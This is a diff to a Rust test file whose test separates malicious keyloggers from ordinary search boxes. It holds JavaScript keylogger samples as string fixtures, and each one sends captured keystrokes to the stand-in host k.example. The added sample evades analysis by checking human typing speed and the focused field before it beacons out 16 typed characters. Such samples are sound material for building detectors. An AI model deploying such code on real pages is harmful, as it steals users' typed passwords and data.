@@ -550,6 +550,14 @@ fn a_keylogger_that_sends_keys_in_batches_is_malicious_and_a_search_box_is_not()
            if (k.length > 5) { fetch('https://k.example/j', { method: 'POST', body: JSON.stringify(k) }); k = []; } });",
         "var b = ''; document.addEventListener('input', function (e) { b += e.data;
            if (b.length > 5) { new Image().src = 'https://k.example/i?d=' + b; b = ''; } });",
+        // Careful ones: keys typed at a person's pace, aimed at the focused field, whose value
+        // grows with them.
+        "var b = '', last = 0, human = true, bot = false;
+         document.addEventListener('keyup', function (e) {
+           if (last && e.timeStamp - last < 15) human = false; last = e.timeStamp;
+           if (e.target !== document.activeElement || e.repeat !== false || e.ctrlKey !== false) return;
+           b += e.key; if ((e.target.value || '').length !== b.length) bot = true;
+           if (human && !bot && b.length === 16) new Image().src = 'https://k.example/l?d=' + b; });",
     ]
     .iter()
     .enumerate()
